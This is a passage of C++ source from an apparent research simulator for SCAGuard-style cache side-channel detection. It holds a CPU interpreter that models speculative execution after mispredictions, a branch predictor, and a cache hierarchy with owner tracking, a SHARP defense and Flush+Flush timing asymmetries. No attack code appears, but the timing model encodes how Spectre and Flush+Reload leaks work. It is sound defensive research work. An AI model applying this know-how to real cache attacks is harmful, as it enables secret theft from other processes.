        const std::uint64_t v = do_load(spec.regs[Reg::RSP], owner, idx,
                                        scratch_cost, &spec);
        spec.regs[Reg::RSP] += 8;
        write_operand(insn.dst, v);
        break;
      }
      case Opcode::kCmp: {
        const std::uint64_t a = read_operand(insn.dst);
        const std::uint64_t b = read_operand(insn.src);
        spec.flags.eq = a == b;
        spec.flags.ult = a < b;
        spec.flags.slt =
            static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b);
        break;
      }
      case Opcode::kTest: {
        const std::uint64_t r = read_operand(insn.dst) & read_operand(insn.src);
        spec.flags.eq = r == 0;
        spec.flags.ult = false;
        spec.flags.slt = static_cast<std::int64_t>(r) < 0;
        break;
      }
      case Opcode::kJmp:
        next_pc = insn.target;
        break;
      case Opcode::kCall:
        spec.regs[Reg::RSP] -= 8;
        do_store(spec.regs[Reg::RSP], pc + isa::kInstrSize, owner, idx,
                 scratch_cost, &spec);
        next_pc = insn.target;
        break;
      case Opcode::kRet: {
        const std::uint64_t ra = do_load(spec.regs[Reg::RSP], owner, idx,
                                         scratch_cost, &spec);
        spec.regs[Reg::RSP] += 8;
        if (ra == 0) return;  // would leave the program: end the window
        next_pc = ra;
        break;
      }
      case Opcode::kPrefetch:
        do_load(effective_addr(insn.dst.mem, spec.regs), owner, idx,
                scratch_cost, &spec);
        break;
      case Opcode::kNop:
        break;
      default: {
        if (is_alu(insn.op)) {
          const std::uint64_t a = read_operand(insn.dst);
          const std::uint64_t b = read_operand(insn.src);
          write_operand(insn.dst, alu(insn.op, a, b, spec.flags));
        } else if (is_unary_alu(insn.op)) {
          const std::uint64_t a = read_operand(insn.dst);
          write_operand(insn.dst, alu(insn.op, a, 0, spec.flags));
        } else if (isa::is_cond_branch(insn.op)) {
          // No nested speculation: resolve with the shadow flags.
          if (eval_condition(insn.op, spec.flags)) next_pc = insn.target;
        }
        break;
      }
    }
    pc = next_pc;
  }
}

RunResult Interpreter::run(const Program& program) {
  // The "interpret" stage covers the cache simulation too: every memory
  // access goes through the simulated hierarchy inline.
  support::TraceScope span("interpret");
  program.validate();

  regs_ = RegFile{};
  regs_[Reg::RSP] = options_.stack_base;
  flags_ = Flags{};
  memory_ = Memory{};
  for (const auto& [addr, value] : program.initial_data())
    memory_.write(addr, value);
  hierarchy_.clear();
  predictor_.reset();
  cycles_ = 0;
  next_sample_at_ = options_.sample_interval;
  noise_rng_.reseed(options_.noise_seed);

  profile_ = trace::ExecutionProfile{};
  profile_.program_name = program.name();
  profile_.sample_interval = options_.sample_interval;
  profile_.resize(program.size());

  std::uint64_t pc = program.entry();
  std::uint64_t retired = 0;
  profile_.exit = trace::ExitReason::kInstrLimit;

  // Cached failpoint for the hottest loop in the codebase: unarmed cost is
  // one relaxed add + one relaxed load per retired instruction.
  static support::fp::Site& fp_step = support::fp::site("cpu.step");

  while (retired < options_.max_retired) {
    if (fp_step.hit()) throw support::fp::FailpointError("cpu.step");
    const std::size_t idx = program.index_of(pc);
    if (idx == Program::npos) {
      profile_.exit = trace::ExitReason::kBadInstruction;
      break;
    }
    const Instruction& insn = program.at(idx);
    const cache::Owner owner = owner_for(pc);

    if (options_.count_fetch_events) {
      const auto f = hierarchy_.fetch(pc, owner);
      if (!f.l1_hit) {
        profile_.per_instr[idx].bump(HpcEvent::kL1iLoadMiss);
        profile_.totals.bump(HpcEvent::kL1iLoadMiss);
        if (!f.llc_hit) {
          profile_.per_instr[idx].bump(HpcEvent::kCacheMiss);
          profile_.totals.bump(HpcEvent::kCacheMiss);
        }
      }
    }
    if (profile_.first_cycle[idx] == 0) profile_.first_cycle[idx] = cycles_ + 1;

    std::uint64_t cost = 1;
    std::uint64_t next_pc = pc + isa::kInstrSize;
    bool halt = false;

    auto read_operand = [&](const Operand& o) -> std::uint64_t {
      switch (o.kind) {
        case Operand::Kind::kImm: return static_cast<std::uint64_t>(o.imm);
        case Operand::Kind::kReg: return regs_[o.reg];
        case Operand::Kind::kMem:
          return do_load(effective_addr(o.mem, regs_), owner, idx, cost,
                         nullptr);
        case Operand::Kind::kNone: return 0;
      }
      return 0;
    };
    auto write_operand = [&](const Operand& o, std::uint64_t v) {
      if (o.is_reg()) {
        regs_[o.reg] = v;
      } else if (o.is_mem()) {
        do_store(effective_addr(o.mem, regs_), v, owner, idx, cost, nullptr);
      }
    };

    switch (insn.op) {
      case Opcode::kMov:
        write_operand(insn.dst, read_operand(insn.src));
        break;
      case Opcode::kLea:
        regs_[insn.dst.reg] = effective_addr(insn.src.mem, regs_);
        break;
      case Opcode::kPush: {
        // x86 pushes the pre-decrement value (matters for `push rsp`).
        const std::uint64_t v = read_operand(insn.dst);
        regs_[Reg::RSP] -= 8;
        do_store(regs_[Reg::RSP], v, owner, idx, cost, nullptr);
        break;
      }
      case Opcode::kPop: {
        const std::uint64_t v =
            do_load(regs_[Reg::RSP], owner, idx, cost, nullptr);
        regs_[Reg::RSP] += 8;
        write_operand(insn.dst, v);
        break;
      }
      case Opcode::kCmp: {
        const std::uint64_t a = read_operand(insn.dst);
        const std::uint64_t b = read_operand(insn.src);
        flags_.eq = a == b;
        flags_.ult = a < b;
        flags_.slt =
            static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b);
        break;
      }
      case Opcode::kTest: {
        const std::uint64_t r = read_operand(insn.dst) & read_operand(insn.src);
        flags_.eq = r == 0;
        flags_.ult = false;
        flags_.slt = static_cast<std::int64_t>(r) < 0;
        break;
      }
      case Opcode::kJmp:
        predictor_.note_unconditional(pc);
        next_pc = insn.target;
        break;
      case Opcode::kCall:
        if (predictor_.note_unconditional(pc)) {
          profile_.per_instr[idx].bump(HpcEvent::kBranchLoadMiss);
          profile_.totals.bump(HpcEvent::kBranchLoadMiss);
        }
        regs_[Reg::RSP] -= 8;
        do_store(regs_[Reg::RSP], pc + isa::kInstrSize, owner, idx, cost,
                 nullptr);
        next_pc = insn.target;
        break;
      case Opcode::kRet: {
        const std::uint64_t ra =
            do_load(regs_[Reg::RSP], owner, idx, cost, nullptr);
        regs_[Reg::RSP] += 8;
        if (ra == 0) {
          // Returning from the outermost frame: clean termination.
          halt = true;
          profile_.exit = trace::ExitReason::kHalted;
        } else {
          next_pc = ra;
        }
        break;
      }
      case Opcode::kClflush: {
        const std::uint64_t ea = effective_addr(insn.dst.mem, regs_);
        const auto h = hierarchy_.flush(ea);
        cost += h.latency;
        profile_.line_addrs[idx].insert(hierarchy_.llc().line_addr(ea));
        if (h.flushed_line_was_present) {
          // The flush forces the next access to miss; we account it as a
          // cache-miss event so flush-only blocks are visible to HPCs.
          profile_.per_instr[idx].bump(HpcEvent::kCacheMiss);
          profile_.totals.bump(HpcEvent::kCacheMiss);
        }
        break;
      }
      case Opcode::kPrefetch:
        do_load(effective_addr(insn.dst.mem, regs_), owner, idx, cost,
                nullptr);
        cost = 1;  // prefetch is non-blocking: events yes, latency no
        break;
      case Opcode::kMfence:
      case Opcode::kLfence:
        cost += 4;
        break;
      case Opcode::kRdtscp:
        regs_[insn.dst.reg] = cycles_ + cost;
        cost += 10;
        break;
      case Opcode::kNop:
        break;
      case Opcode::kHlt:
        halt = true;
        profile_.exit = trace::ExitReason::kHalted;
        break;
      default: {
        if (is_alu(insn.op)) {
          const std::uint64_t a = read_operand(insn.dst);
          const std::uint64_t b = read_operand(insn.src);
          write_operand(insn.dst, alu(insn.op, a, b, flags_));
        } else if (is_unary_alu(insn.op)) {
          const std::uint64_t a = read_operand(insn.dst);
          write_operand(insn.dst, alu(insn.op, a, 0, flags_));
        } else if (isa::is_cond_branch(insn.op)) {
          const bool taken = eval_condition(insn.op, flags_);
          const auto pred = predictor_.predict(pc);
          if (pred.btb_cold) {
            profile_.per_instr[idx].bump(HpcEvent::kBranchLoadMiss);
            profile_.totals.bump(HpcEvent::kBranchLoadMiss);
          }
          if (pred.taken != taken) {
            profile_.per_instr[idx].bump(HpcEvent::kBranchMiss);
            profile_.totals.bump(HpcEvent::kBranchMiss);
            cost += options_.mispredict_penalty;
            if (options_.speculation) {
              const std::uint64_t wrong_pc =
                  pred.taken ? insn.target : pc + isa::kInstrSize;
              run_transient(program, wrong_pc, idx);
            }
          }
          predictor_.update(pc, taken);
          if (taken) next_pc = insn.target;
        } else {
          throw std::logic_error("Interpreter: unhandled opcode");
        }
        break;
      }
    }

    ++retired;
    cycles_ += cost;
    take_samples_up_to(cycles_);
    if (halt) break;
    pc = next_pc;
  }

  profile_.cycles = cycles_;
  profile_.retired = retired;
  profile_.sharp_alarms_attacker =
      hierarchy_.sharp_alarms(cache::Owner::kAttacker);
  profile_.sharp_alarms_victim =
      hierarchy_.sharp_alarms(cache::Owner::kVictim);

  static support::Counter& c_runs =
      support::Registry::global().counter("interp.runs");
  static support::Counter& c_retired =
      support::Registry::global().counter("interp.retired");
  static support::Counter& c_cycles =
      support::Registry::global().counter("interp.cycles");
  static support::Counter& c_cache_misses =
      support::Registry::global().counter("cache.misses");
  c_runs.add();
  c_retired.add(retired);
  c_cycles.add(cycles_);
  c_cache_misses.add(profile_.totals[trace::HpcEvent::kCacheMiss]);

  RunResult result;
  result.profile = std::move(profile_);
  result.regs = regs_;
  result.flags = flags_;
  result.memory = std::move(memory_);
  result.cycles = cycles_;
  return result;
}

}  // namespace scag::cpu
