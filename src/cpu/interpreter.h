// The CPU interpreter: executes a Program against the cache hierarchy,
// modeling timing (rdtscp reads the simulated cycle counter) and transient
// execution after branch mispredictions. It is the substitute for "run the
// PoC on an i7-6700 under perf/Intel PT": the ExecutionProfile it produces
// is the runtime information SCAGuard's modeling stage consumes, and the
// timing model is faithful enough that the attack PoCs genuinely work
// (they recover the victim's secret through the cache channel).
#pragma once

#include <cstdint>
#include <utility>
#include <vector>

#include "cache/hierarchy.h"
#include "cpu/machine.h"
#include "support/rng.h"
#include "cpu/predictor.h"
#include "isa/program.h"
#include "trace/profile.h"

namespace scag::cpu {

struct ExecOptions {
  /// Retired-instruction budget; execution stops when exhausted.
  std::uint64_t max_retired = 4'000'000;

  /// Transient execution after mispredictions (required for Spectre PoCs).
  bool speculation = true;
  /// Maximum transiently executed instructions per misprediction.
  std::uint32_t spec_window = 48;
  /// Cycles lost on a misprediction (pipeline flush).
  std::uint32_t mispredict_penalty = 15;

  /// If nonzero, snapshot cumulative HPC counters every N cycles (the HPC
  /// time series the ML baselines sample, a la NIGHTs-WATCH).
  std::uint64_t sample_interval = 0;

  /// Relative measurement noise on the sampled counter snapshots,
  /// emulating the jitter of reading real HPCs on a live system
  /// (interrupts, co-running processes, counter multiplexing). Applied to
  /// the samples only — per-instruction attribution stays exact.
  double sample_noise = 0.0;
  std::uint64_t noise_seed = 0x5eed;

  cache::HierarchyConfig cache_config{};

  /// Count instruction-fetch events (L1I misses). Fetch latency is assumed
  /// hidden by the pipeline and never added to the cycle count.
  bool count_fetch_events = true;

  /// Code address ranges [lo, hi) whose data accesses are attributed to the
  /// victim (for occupancy studies). Everything else is the attacker.
  std::vector<std::pair<std::uint64_t, std::uint64_t>> victim_ranges;

  /// Initial stack pointer.
  std::uint64_t stack_base = 0x7ff0'0000;
};

struct RunResult {
  trace::ExecutionProfile profile;
  RegFile regs;
  Flags flags;
  Memory memory;           // final memory image (tests read attack results)
  std::uint64_t cycles = 0;
};

class Interpreter {
 public:
  explicit Interpreter(ExecOptions options = {});

  /// Executes `program` from its entry point until halt/limit.
  RunResult run(const isa::Program& program);

  /// Access to the hierarchy after run() (occupancy inspection).
  const cache::CacheHierarchy& hierarchy() const { return hierarchy_; }

 private:
  struct SpecCtx;  // transient-execution context

  // Effective address of a memory operand under the given register file.
  std::uint64_t effective_addr(const isa::MemRef& m, const RegFile& regs) const;

  // Data access helpers that raise HPC events into profile_ at instr `idx`.
  std::uint64_t do_load(std::uint64_t addr, cache::Owner owner,
                        std::size_t idx, std::uint64_t& cost, SpecCtx* spec);
  void do_store(std::uint64_t addr, std::uint64_t value, cache::Owner owner,
                std::size_t idx, std::uint64_t& cost, SpecCtx* spec);

  // Executes the transient window after a misprediction at branch `idx`.
  void run_transient(const isa::Program& program, std::uint64_t wrong_pc,
                     std::size_t branch_idx);

  cache::Owner owner_for(std::uint64_t code_addr) const;
  void take_samples_up_to(std::uint64_t cycles);

  ExecOptions options_;
  cache::CacheHierarchy hierarchy_;
  BranchPredictor predictor_;
  Rng noise_rng_;

  // Live state during run().
  RegFile regs_;
  Flags flags_;
  Memory memory_;
  trace::ExecutionProfile profile_;
  std::uint64_t cycles_ = 0;
  std::uint64_t next_sample_at_ = 0;
};

}  // namespace scag::cpu
