#include "cpu/machine.h"

// Machine state is header-only today; this TU anchors the library target.
namespace scag::cpu {}
