// Architectural machine state: registers, flags, sparse memory.
#pragma once

#include <array>
#include <cstdint>
#include <unordered_map>

#include "isa/reg.h"

namespace scag::cpu {

/// The 16 GP registers, all 64-bit.
struct RegFile {
  std::array<std::uint64_t, isa::kNumRegs> values{};

  std::uint64_t& operator[](isa::Reg r) {
    return values[static_cast<std::size_t>(r)];
  }
  std::uint64_t operator[](isa::Reg r) const {
    return values[static_cast<std::size_t>(r)];
  }
};

/// Condition state, stored pre-digested rather than as raw x86 flag bits:
/// eq  — last result was zero / operands equal
/// ult — unsigned below (carry/borrow)
/// slt — signed less (SF != OF)
struct Flags {
  bool eq = false;
  bool ult = false;
  bool slt = false;
};

/// Sparse 64-bit-word memory. Addresses are byte addresses; accesses are
/// aligned down to 8 bytes (the mini-ISA has no sub-word loads, and the
/// cache simulator works on 64-byte lines anyway).
class Memory {
 public:
  std::uint64_t read(std::uint64_t addr) const {
    auto it = words_.find(align(addr));
    return it == words_.end() ? 0 : it->second;
  }

  void write(std::uint64_t addr, std::uint64_t value) {
    words_[align(addr)] = value;
  }

  std::size_t footprint_words() const { return words_.size(); }

  static std::uint64_t align(std::uint64_t addr) { return addr & ~7ULL; }

 private:
  std::unordered_map<std::uint64_t, std::uint64_t> words_;
};

}  // namespace scag::cpu
