#include "cpu/predictor.h"

namespace scag::cpu {

BranchPredictor::Prediction BranchPredictor::predict(std::uint64_t addr) {
  Prediction p;
  p.btb_cold = btb_.insert(addr).second;
  auto it = counters_.find(addr);
  // Static prediction for a cold branch: not taken (forward-branch bias).
  const std::uint8_t state = it == counters_.end() ? 1 : it->second;
  p.taken = state >= 2;
  return p;
}

bool BranchPredictor::note_unconditional(std::uint64_t addr) {
  return btb_.insert(addr).second;
}

void BranchPredictor::update(std::uint64_t addr, bool taken) {
  std::uint8_t& state = counters_.try_emplace(addr, 1).first->second;
  if (taken) {
    if (state < 3) ++state;
  } else {
    if (state > 0) --state;
  }
}

void BranchPredictor::reset() {
  counters_.clear();
  btb_.clear();
}

}  // namespace scag::cpu
