// Branch predictor: per-branch 2-bit saturating counters plus a cold-miss
// BTB model. Mispredictions open the transient-execution window that makes
// Spectre-style PoCs actually leak in the simulator, and they raise the
// "Branch Miss" / "Branch Load Miss" HPC events of Table I.
#pragma once

#include <cstdint>
#include <unordered_map>
#include <unordered_set>

namespace scag::cpu {

class BranchPredictor {
 public:
  struct Prediction {
    bool taken = false;
    bool btb_cold = false;  // first time this branch address is seen
  };

  /// Predicts the direction of the conditional branch at `addr`.
  Prediction predict(std::uint64_t addr);

  /// Records a cold-miss lookup for a non-conditional control transfer
  /// (jmp/call/ret). Returns true if the target was not yet in the BTB.
  bool note_unconditional(std::uint64_t addr);

  /// Trains the predictor with the actual outcome.
  void update(std::uint64_t addr, bool taken);

  void reset();

 private:
  // 2-bit saturating counter per branch address: 0,1 -> not-taken; 2,3 -> taken.
  std::unordered_map<std::uint64_t, std::uint8_t> counters_;
  std::unordered_set<std::uint64_t> btb_;
};

}  // namespace scag::cpu
