#include "cache/cache.h"

#include <stdexcept>

namespace scag::cache {

namespace {
bool is_pow2(std::uint32_t x) { return x != 0 && (x & (x - 1)) == 0; }
}  // namespace

Cache::Cache(const CacheConfig& config) : config_(config) {
  if (config_.num_sets == 0 || config_.ways == 0)
    throw std::invalid_argument("Cache: sets/ways must be positive");
  if (!is_pow2(config_.line_size))
    throw std::invalid_argument("Cache: line_size must be a power of two");
  if (config_.policy == ReplacementPolicy::kPlru && !is_pow2(config_.ways))
    throw std::invalid_argument("Cache: PLRU requires power-of-two ways");
  lines_.resize(static_cast<std::size_t>(config_.num_sets) * config_.ways);
  if (config_.policy == ReplacementPolicy::kPlru)
    plru_bits_.assign(config_.num_sets, 0);
  sharp_rand_state_ =
      config_.defense_seed != 0 ? config_.defense_seed : 0xC0FFEE5EEDULL;
}

Cache::Line* Cache::find(std::uint64_t addr) {
  const std::uint64_t la = line_addr(addr);
  const std::size_t base =
      static_cast<std::size_t>(set_index(addr)) * config_.ways;
  for (std::size_t w = 0; w < config_.ways; ++w) {
    Line& line = lines_[base + w];
    if (line.valid && line.tag == la) return &line;
  }
  return nullptr;
}

const Cache::Line* Cache::find(std::uint64_t addr) const {
  return const_cast<Cache*>(this)->find(addr);
}

std::size_t Cache::pick_victim(std::size_t set_idx, std::size_t base,
                               Owner accessor) {
  if (config_.defense == DefensePolicy::kSharp) {
    // SHARP: evicting your own line cannot leak, so restrict the victim
    // search to accessor-owned ways. Among the candidates pick the one
    // with the smallest (lru stamp, way index) — exact LRU under kLru,
    // insertion order under kFifo, and (since kPlru/kRandom never write
    // stamps) the lowest candidate way under those policies; all
    // deterministic.
    std::size_t candidate = config_.ways;
    for (std::size_t w = 0; w < config_.ways; ++w) {
      const Line& line = lines_[base + w];
      if (!line.valid || line.owner != accessor) continue;
      if (candidate == config_.ways ||
          line.lru < lines_[base + candidate].lru)
        candidate = w;
    }
    if (candidate != config_.ways) return candidate;
    // Every line in the set is foreign-owned: the hardware has no safe
    // victim, evicts one at random (own xorshift64* stream so kRandom
    // replacement state is untouched) and raises the requester's alarm.
    sharp_rand_state_ ^= sharp_rand_state_ >> 12;
    sharp_rand_state_ ^= sharp_rand_state_ << 25;
    sharp_rand_state_ ^= sharp_rand_state_ >> 27;
    ++sharp_alarms_[static_cast<std::size_t>(accessor)];
    return static_cast<std::size_t>(
        (sharp_rand_state_ * 0x2545F4914F6CDD1DULL) % config_.ways);
  }
  switch (config_.policy) {
    case ReplacementPolicy::kLru:
    case ReplacementPolicy::kFifo: {
      // Smallest stamp wins: last-touch for LRU, insertion time for FIFO
      // (FIFO simply never refreshes the stamp on a hit).
      std::size_t victim = 0;
      for (std::size_t w = 1; w < config_.ways; ++w)
        if (lines_[base + w].lru < lines_[base + victim].lru) victim = w;
      return victim;
    }
    case ReplacementPolicy::kPlru: {
      // Follow the tree bits: bit 0 is the root; a set bit means "go
      // right". The victim is the leaf the bits point away from... i.e.
      // we walk TOWARD the side the bits indicate is colder.
      std::uint32_t bits = plru_bits_[set_idx];
      std::size_t node = 0;  // index within the implicit tree
      std::size_t lo = 0, span = config_.ways;
      while (span > 1) {
        const bool right = (bits >> node) & 1u;
        span /= 2;
        if (right) lo += span;
        node = 2 * node + 1 + (right ? 1 : 0);
      }
      return lo;
    }
    case ReplacementPolicy::kRandom: {
      // xorshift64*: deterministic, independent of program addresses.
      rand_state_ ^= rand_state_ >> 12;
      rand_state_ ^= rand_state_ << 25;
      rand_state_ ^= rand_state_ >> 27;
      return static_cast<std::size_t>(
          (rand_state_ * 0x2545F4914F6CDD1DULL) % config_.ways);
    }
  }
  return 0;
}

void Cache::touch(std::size_t set_idx, std::size_t way, bool is_fill) {
  switch (config_.policy) {
    case ReplacementPolicy::kLru:
      lines_[set_idx * config_.ways + way].lru = tick_;
      break;
    case ReplacementPolicy::kFifo:
      if (is_fill) lines_[set_idx * config_.ways + way].lru = tick_;
      break;
    case ReplacementPolicy::kPlru: {
      // Flip the bits along the path to `way` to point AWAY from it.
      std::uint32_t& bits = plru_bits_[set_idx];
      std::size_t node = 0;
      std::size_t lo = 0, span = config_.ways;
      while (span > 1) {
        span /= 2;
        const bool went_right = way >= lo + span;
        // Point the bit at the OTHER half.
        if (went_right) {
          bits &= ~(1u << node);
          lo += span;
        } else {
          bits |= (1u << node);
        }
        node = 2 * node + 1 + (went_right ? 1 : 0);
      }
      break;
    }
    case ReplacementPolicy::kRandom:
      break;  // stateless
  }
}

AccessOutcome Cache::access(std::uint64_t addr, AccessType /*type*/,
                            Owner owner) {
  ++tick_;
  AccessOutcome out;
  const std::size_t set_idx = set_index(addr);
  const std::size_t base = set_idx * config_.ways;
  if (Line* line = find(addr)) {
    touch(set_idx, static_cast<std::size_t>(line - &lines_[base]),
          /*is_fill=*/false);
    line->owner = owner;
    out.hit = true;
    ++hits_;
    return out;
  }
  ++misses_;
  // Miss: fill an invalid way if one exists, else evict per policy.
  std::size_t way = config_.ways;
  for (std::size_t w = 0; w < config_.ways; ++w) {
    if (!lines_[base + w].valid) {
      way = w;
      break;
    }
  }
  if (way == config_.ways) way = pick_victim(set_idx, base, owner);
  Line& victim = lines_[base + way];
  if (victim.valid) {
    out.evicted = true;
    out.evicted_line_addr = victim.tag;
    out.evicted_owner = victim.owner;
  }
  victim.valid = true;
  victim.tag = line_addr(addr);
  victim.owner = owner;
  touch(set_idx, way, /*is_fill=*/true);
  return out;
}

bool Cache::probe(std::uint64_t addr) const { return find(addr) != nullptr; }

bool Cache::flush(std::uint64_t addr) {
  if (Line* line = find(addr)) {
    line->valid = false;
    line->owner = Owner::kNone;
    return true;
  }
  return false;
}

void Cache::clear() {
  for (Line& line : lines_) {
    line.valid = false;
    line.owner = Owner::kNone;
    line.lru = 0;
  }
  for (auto& bits : plru_bits_) bits = 0;
  tick_ = 0;
}

void Cache::fill_all(Owner owner) {
  // Synthetic line addresses far above any program address so they cannot
  // alias with real data: set s way w gets line (1<<60) + (w*num_sets + s).
  clear();
  for (std::uint32_t s = 0; s < config_.num_sets; ++s) {
    for (std::uint32_t w = 0; w < config_.ways; ++w) {
      const std::uint64_t fake_line_index =
          static_cast<std::uint64_t>(w) * config_.num_sets + s;
      const std::uint64_t addr =
          (1ULL << 60) + fake_line_index * config_.line_size * config_.num_sets +
          static_cast<std::uint64_t>(s) * config_.line_size;
      access(addr, AccessType::kLoad, owner);
    }
  }
  reset_counters();
}

double Cache::occupancy(Owner owner) const {
  std::size_t count = 0;
  for (const Line& line : lines_)
    if (line.valid && line.owner == owner) ++count;
  return static_cast<double>(count) / static_cast<double>(lines_.size());
}

double Cache::total_occupancy() const {
  std::size_t count = 0;
  for (const Line& line : lines_)
    if (line.valid) ++count;
  return static_cast<double>(count) / static_cast<double>(lines_.size());
}

std::uint64_t Cache::sharp_alarms_total() const {
  std::uint64_t total = 0;
  for (const std::uint64_t a : sharp_alarms_) total += a;
  return total;
}

std::uint32_t Cache::set_occupancy(std::uint64_t addr, Owner owner) const {
  const std::size_t base =
      static_cast<std::size_t>(set_index(addr)) * config_.ways;
  std::uint32_t count = 0;
  for (std::size_t w = 0; w < config_.ways; ++w) {
    const Line& line = lines_[base + w];
    if (line.valid && line.owner == owner) ++count;
  }
  return count;
}

}  // namespace scag::cache
