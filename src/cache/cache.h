// Set-associative cache simulator with per-line owner tracking.
//
// This is the substitute for the external CacheSim the paper uses: it both
// backs the CPU interpreter (so attacks see real hit/miss timing) and
// measures the cache state transitions (CSTs) of Definition 3/4 — the
// owner tags let us read off AO (attacker occupancy) and IO (occupancy by
// everyone else) directly.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <vector>

namespace scag::cache {

/// Who a cache line belongs to. Used only for occupancy accounting; lookup
/// is by address, as in real hardware.
enum class Owner : std::uint8_t { kNone, kAttacker, kVictim, kOther };

/// Replacement policy of a cache level. Real LLCs vary (Skylake's LLC is
/// not true LRU), and eviction-based attacks are sensitive to the policy —
/// the cache_geometry_study example sweeps these.
enum class ReplacementPolicy : std::uint8_t {
  kLru,    // evict least-recently used (default; what the PoCs assume)
  kFifo,   // evict oldest insertion, hits do not refresh
  kPlru,   // tree pseudo-LRU (requires power-of-two ways)
  kRandom, // evict a deterministic-pseudo-random way
};

/// Hardware defense applied on top of the replacement policy.
///
/// kSharp models the SHARP proposal (Yan et al., ISCA'17): on a miss into a
/// full set, the replacement first looks for a victim line *owned by the
/// requester* (evicting your own lines leaks nothing). Only when every line
/// in the set is foreign-owned does it fall back to evicting one at random
/// (deterministic seeded PRNG, independent of the kRandom policy state) and
/// bumps a per-requester alarm counter — the hardware's "this owner keeps
/// forcing cross-owner evictions" suspicion signal. kNone leaves the
/// replacement decision byte-for-byte identical to the undefended cache.
enum class DefensePolicy : std::uint8_t { kNone, kSharp };

struct CacheConfig {
  std::uint32_t num_sets = 64;
  std::uint32_t ways = 8;
  std::uint32_t line_size = 64;  // bytes, power of two
  ReplacementPolicy policy = ReplacementPolicy::kLru;
  DefensePolicy defense = DefensePolicy::kNone;
  /// Seed of the SHARP fallback PRNG (the random pick among foreign-owned
  /// lines). Must be nonzero for xorshift; 0 falls back to the default.
  std::uint64_t defense_seed = 0xC0FFEE5EEDULL;

  std::uint32_t num_lines() const { return num_sets * ways; }
};

/// What kind of access is being performed.
enum class AccessType : std::uint8_t { kLoad, kStore, kFetch };

/// Outcome of one access against a single cache level.
struct AccessOutcome {
  bool hit = false;
  /// A valid line was evicted to make room (only possible on a miss).
  bool evicted = false;
  std::uint64_t evicted_line_addr = 0;  // line-aligned address
  Owner evicted_owner = Owner::kNone;
};

/// One cache level. LRU replacement.
class Cache {
 public:
  explicit Cache(const CacheConfig& config);

  const CacheConfig& config() const { return config_; }

  /// Performs an access; on miss the line is filled and tagged `owner`.
  /// On hit the owner tag is updated to the accessor (the most recent
  /// toucher "owns" the line for occupancy purposes). Under
  /// DefensePolicy::kSharp the accessor also steers victim selection (see
  /// DefensePolicy).
  AccessOutcome access(std::uint64_t addr, AccessType type, Owner owner);

  /// True if the line holding `addr` is present (no LRU update).
  bool probe(std::uint64_t addr) const;

  /// Invalidates the line holding addr; returns true if it was present.
  bool flush(std::uint64_t addr);

  /// Invalidates everything.
  void clear();

  /// Fills every line with synthetic disjoint addresses tagged `owner`.
  /// Used to set up the paper's CST scenario (IO = 1, AO = 0).
  void fill_all(Owner owner);

  /// Fraction of all lines currently valid and owned by `owner`.
  double occupancy(Owner owner) const;

  /// Fraction of all lines valid (any owner).
  double total_occupancy() const;

  /// Number of valid lines owned by `owner` in the set holding `addr`.
  std::uint32_t set_occupancy(std::uint64_t addr, Owner owner) const;

  std::uint32_t set_index(std::uint64_t addr) const {
    return static_cast<std::uint32_t>((addr / config_.line_size) %
                                      config_.num_sets);
  }
  std::uint64_t line_addr(std::uint64_t addr) const {
    return addr - (addr % config_.line_size);
  }

  std::uint64_t hits() const { return hits_; }
  std::uint64_t misses() const { return misses_; }

  /// SHARP alarms attributed to `owner`: how often an access by `owner`
  /// was forced to evict a foreign-owned line because the set held none of
  /// its own. Always 0 under DefensePolicy::kNone.
  std::uint64_t sharp_alarms(Owner owner) const {
    return sharp_alarms_[static_cast<std::size_t>(owner)];
  }
  /// Sum of the per-owner SHARP alarm counters.
  std::uint64_t sharp_alarms_total() const;

  void reset_counters() {
    hits_ = misses_ = 0;
    sharp_alarms_.fill(0);
  }

 private:
  struct Line {
    bool valid = false;
    std::uint64_t tag = 0;  // full line-aligned address (simple and exact)
    Owner owner = Owner::kNone;
    std::uint64_t lru = 0;  // last-touch (LRU) or insertion (FIFO) stamp
  };

  Line* find(std::uint64_t addr);
  const Line* find(std::uint64_t addr) const;

  /// Picks the way to evict in the (full) set starting at `base`,
  /// according to the configured policy. Under kSharp, `accessor` narrows
  /// the candidates to self-owned lines first (see DefensePolicy).
  std::size_t pick_victim(std::size_t set_index, std::size_t base,
                          Owner accessor);

  /// Updates policy metadata on a hit/fill of way `way` in `set_index`.
  void touch(std::size_t set_index, std::size_t way, bool is_fill);

  CacheConfig config_;
  std::vector<Line> lines_;  // num_sets * ways, set-major
  std::vector<std::uint32_t> plru_bits_;  // one tree per set (kPlru)
  std::uint64_t rand_state_ = 0x9e3779b97f4a7c15ULL;  // kRandom
  std::uint64_t sharp_rand_state_ = 0;   // kSharp fallback; seeded in ctor
  std::array<std::uint64_t, 4> sharp_alarms_{};  // indexed by Owner
  std::uint64_t tick_ = 0;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
};

}  // namespace scag::cache
