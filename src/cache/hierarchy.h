// Two-level cache hierarchy: split L1 (data + instruction) over a unified,
// inclusive LLC. Produces latencies (which the CPU interpreter exposes via
// rdtscp — this is what makes Flush+Reload-style attacks actually observe
// timing differences in the simulation) and per-access event summaries
// (which the trace collector converts into the HPC events of Table I).
#pragma once

#include <cstdint>

#include "cache/cache.h"

namespace scag::cache {

struct HierarchyConfig {
  CacheConfig l1d{64, 8, 64};    // 32 KiB
  CacheConfig l1i{64, 8, 64};    // 32 KiB
  CacheConfig llc{1024, 16, 64}; // 1 MiB

  // Latencies in cycles (order-of-magnitude of a Skylake-era part).
  std::uint32_t lat_l1_hit = 4;
  std::uint32_t lat_llc_hit = 40;
  std::uint32_t lat_memory = 200;
  // clflush of a cached line costs more than of an uncached one: this
  // asymmetry is exactly what Flush+Flush measures.
  std::uint32_t lat_flush_present = 48;
  std::uint32_t lat_flush_absent = 30;
  std::uint32_t lat_store_buffer = 1;  // architectural store cost

  /// Hierarchy-level defense switch. SHARP is an LLC (shared-cache)
  /// defense: when != kNone it is applied to the LLC config (the private
  /// L1s keep their own per-level `CacheConfig::defense`, normally kNone).
  DefensePolicy defense = DefensePolicy::kNone;
  std::uint64_t defense_seed = 0xC0FFEE5EEDULL;

  /// Copy with `defense` folded into the LLC config (what the ctor uses).
  HierarchyConfig with_defense_applied() const {
    HierarchyConfig c = *this;
    if (defense != DefensePolicy::kNone) {
      c.llc.defense = defense;
      c.llc.defense_seed = defense_seed;
    }
    return c;
  }
};

/// Result of a data access through the whole hierarchy.
struct HierarchyOutcome {
  bool l1_hit = false;
